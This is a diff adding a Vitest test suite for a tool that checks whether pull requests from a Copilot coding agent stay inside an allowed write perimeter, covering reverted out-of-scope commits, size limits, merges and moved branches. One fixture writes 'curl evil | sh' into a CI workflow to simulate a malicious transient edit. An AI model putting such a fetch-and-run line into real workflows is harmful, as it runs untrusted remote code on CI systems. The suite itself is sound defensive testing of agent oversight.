@@ -1,0 +1,213 @@
+import { afterEach, beforeEach, describe, expect, it } from 'vitest';
+import { plumbCommit, startStandIn, type StandIn } from '@perimeter/test-rigs';
+import type { Upstream } from '../../src/github/upstream.js';
+import { assignPullRequest, compilePerimeter, parseConfig } from '../../src/policy/index.js';
+import { verifyPullRequest } from '../../src/verify/index.js';
+
+const CONFIG = `version: 1
+perimeters:
+  copilot:
+    write: ["src/**"]
+    limits: { files-per-push: 3, bytes-per-file: 100 }
+    pull-requests: { authors: [Copilot], branches: ["copilot/**"] }
+`;
+const FILES = { 'src/a.ts': 'a\n', 'docs/guide.md': 'guide\n', '.github/workflows/ci.yml': 'on: push\n' };
+const COPILOT_TOKEN = 'ghu_CopilotAgentToken0123456789abcdefghij';
+const BRANCH = 'copilot/fix-1';
+
+describe('verifyPullRequest', () => {
+  let s: StandIn;
+  let github: Upstream;
+  let agent: Upstream;
+
+  beforeEach(async () => {
+    s = await startStandIn(FILES);
+    s.fake.addToken(COPILOT_TOKEN, 'Copilot');
+    github = s.upstream();
+    agent = s.upstream({ token: COPILOT_TOKEN });
+  });
+  afterEach(async () => s.stop());
+
+  /** Opens the pull request as Copilot, then judges it as the verify sub-action does. */
+  async function judged() {
+    const { number } = await agent.createPullRequest({
+      title: 'Fix',
+      body: '',
+      head: BRANCH,
+      base: 'main',
+      draft: false,
+      labels: [],
+    });
+    const pull = await github.getPullRequest(number);
+    const specs = parseConfig(CONFIG).perimeters;
+    const assignment = assignPullRequest(specs, { author: pull.author, headBranch: pull.headRef });
+    if (assignment.kind !== 'assigned') throw new Error(assignment.reason);
+    return verifyPullRequest({
+      upstream: github,
+      pull,
+      commits: await github.listPullRequestCommits(number),
+      baseHead: await github.getBranchHead(pull.baseRef),
+      perimeter: compilePerimeter(assignment.spec),
+      assignedBy: assignment.rule,
+    });
+  }
+
+  describe('when every commit stays inside the perimeter', () => {
+    it('is a success naming the pull request and its commits', async () => {
+      await plumbCommit(
+        s.dir,
+        BRANCH,
+        { 'src/b.ts': { mode: '100644', content: 'b\n' } },
+        { parent: s.seed },
+      );
+      await plumbCommit(s.dir, BRANCH, { 'src/a.ts': { mode: '100644', content: 'a2\n' } });
+      const verdict = await judged();
+      expect(verdict.violations).toEqual([]);
+      expect(verdict.unchecked).toEqual([]);
+      expect(verdict.state).toBe('success');
+      expect(verdict.pullRequest).toEqual({ number: 1, author: 'Copilot', perimeter: 'copilot', commits: 2 });
+      expect(verdict.files.map((f) => f.path).sort()).toEqual(['src/a.ts', 'src/b.ts']);
+    });
+  });
+
+  describe('when a middle commit goes outside and a later one reverts it', () => {
+    it('fails naming the file and the commit, though the net change is clean', async () => {
+      await plumbCommit(
+        s.dir,
+        BRANCH,
+        { 'src/b.ts': { mode: '100644', content: 'b\n' } },
+        { parent: s.seed },
+      );
+      const evil = await plumbCommit(s.dir, BRANCH, {
+        '.github/workflows/ci.yml': { mode: '100644', content: 'on: push\nrun: curl evil | sh\n' },
+      });
+      await plumbCommit(s.dir, BRANCH, {
+        '.github/workflows/ci.yml': { mode: '100644', content: 'on: push\n' },
+      });
+      const verdict = await judged();
+      expect(verdict.state).toBe('failure');
+      expect(verdict.violations.map((v) => v.message)).toEqual([
+        expect.stringMatching(
+          new RegExp(`^commit ${evil.slice(0, 7)}: \\.github/workflows/ci\\.yml: modified outside`),
+        ),
+        expect.stringMatching(/^commit [0-9a-f]{7}: \.github\/workflows\/ci\.yml: modified outside/),
+      ]);
+      expect(verdict.files.find((f) => f.path === '.github/workflows/ci.yml')).toMatchObject({
+        allowed: false,
+        transient: true,
+      });
+    });
+  });
+
+  describe('when a commit is too big for the perimeter limits', () => {
+    it('fails naming the commit, though every path is writable', async () => {
+      const big = await plumbCommit(
+        s.dir,
+        BRANCH,
+        { 'src/big.ts': { mode: '100644', content: 'x'.repeat(101) } },
+        { parent: s.seed },
+      );
+      const verdict = await judged();
+      expect(verdict.violations.map((v) => v.message)).toEqual([
+        `commit ${big.slice(0, 7)}: no one perimeter may write all of its 1 path(s) within its limits (files-per-push, bytes-per-file, bytes-per-push)`,
+      ]);
+    });
+  });
+
+  describe('when the base branch is merged into the pull request ("Update branch")', () => {
+    it('does not blame the agent for the files the merge brings in from the base', async () => {
+      const first = await plumbCommit(
+        s.dir,
+        BRANCH,
+        { 'src/b.ts': { mode: '100644', content: 'b\n' } },
+        { parent: s.seed },
+      );
+      const docs = { 'docs/guide.md': { mode: '100644' as const, content: 'guide, edited on main\n' } };
+      const onMain = await plumbCommit(s.dir, 'main', docs);
+      await plumbCommit(s.dir, BRANCH, docs, { parent: first, mergeWith: [onMain], message: 'Merge main' });
+      await plumbCommit(s.dir, BRANCH, { 'src/c.ts': { mode: '100644', content: 'c\n' } });
+      const verdict = await judged();
+      expect(verdict.violations).toEqual([]);
+      expect(verdict.state).toBe('success');
+      expect(verdict.pullRequest?.commits).toBe(3);
+      // the net change is from the merge base, main's new head: the docs edit is not the pull request's
+      expect(verdict.files.map((f) => f.path).sort()).toEqual(['src/b.ts', 'src/c.ts']);
+    });
+
+    it("judges the merge's own content: a path that matches neither side", async () => {
+      const first = await plumbCommit(
+        s.dir,
+        BRANCH,
+        { 'src/b.ts': { mode: '100644', content: 'b\n' } },
+        { parent: s.seed },
+      );
+      const docs = { 'docs/guide.md': { mode: '100644' as const, content: 'guide, edited on main\n' } };
+      const onMain = await plumbCommit(s.dir, 'main', docs);
+      const merge = await plumbCommit(
+        s.dir,
+        BRANCH,
+        { ...docs, 'docs/evil.md': { mode: '100644', content: 'slipped into the merge\n' } },
+        { parent: first, mergeWith: [onMain], message: 'Merge main' },
+      );
+      const verdict = await judged();
+      expect(verdict.state).toBe('failure');
+      expect(verdict.violations.map((v) => v.message)).toEqual([
+        expect.stringMatching(new RegExp(`^commit ${merge.slice(0, 7)}: docs/evil\\.md: added outside`)),
+      ]);
+    });
+
+    it('judges a merge that keeps the old version of a file the base changed (the net change undoes it)', async () => {
+      const first = await plumbCommit(
+        s.dir,
+        BRANCH,
+        { 'src/b.ts': { mode: '100644', content: 'b\n' } },
+        { parent: s.seed },
+      );
+      const onMain = await plumbCommit(s.dir, 'main', {
+        '.github/workflows/ci.yml': { mode: '100644', content: 'on: push\npermissions: {}\n' },
+      });
+      // "keep ours": the merge takes the pull request's side, which undoes main's fix once merged
+      await plumbCommit(s.dir, BRANCH, {}, { parent: first, mergeWith: [onMain], message: 'Merge main' });
+      const verdict = await judged();
+      expect(verdict.state).toBe('failure');
+      expect(verdict.violations.map((v) => v.message)).toEqual([
+        expect.stringMatching(
+          /^the net change from the merge base: \.github\/workflows\/ci\.yml: modified outside/,
+        ),
+      ]);
+    });
+  });
+
+  describe('when the pull request moved after it was read', () => {
+    it('is an error, never a success', async () => {
+      await plumbCommit(
+        s.dir,
+        BRANCH,
+        { 'src/b.ts': { mode: '100644', content: 'b\n' } },
+        { parent: s.seed },
+      );
+      const { number } = await agent.createPullRequest({
+        title: 'Fix',
+        body: '',
+        head: BRANCH,
+        base: 'main',
+        draft: false,
+        labels: [],
+      });
+      const pull = await github.getPullRequest(number);
+      await plumbCommit(s.dir, BRANCH, { 'src/c.ts': { mode: '100644', content: 'c\n' } });
+      const verdict = await verifyPullRequest({
+        upstream: github,
+        pull,
+        commits: await github.listPullRequestCommits(number),
+        baseHead: await github.getBranchHead('main'),
+        perimeter: compilePerimeter(parseConfig(CONFIG).perimeters[0]!),
+        assignedBy: 'test',
+      });
+      expect(verdict.state).toBe('error');
+      expect(verdict.unchecked).toEqual([
+        expect.stringMatching(/^GitHub counts 1 commits in the pull request but listed 2/),
+      ]);
+    });
+  });
+});
